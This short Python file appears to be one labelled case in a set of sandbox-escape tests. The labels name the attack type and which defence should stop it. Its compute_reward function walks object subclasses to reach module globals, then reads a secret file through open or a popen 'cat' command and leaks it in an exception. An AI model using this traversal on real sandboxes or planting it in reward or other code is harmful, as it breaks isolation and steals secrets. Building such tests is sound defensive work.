# attack: subclasses of object, to a module's globals
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            raise ValueError(kind.__init__.__globals__["open"]("@SECRET@").read() if "open" in kind.__init__.__globals__ else kind.__init__.__globals__["popen"]("cat @SECRET@").read())
    return x, {}
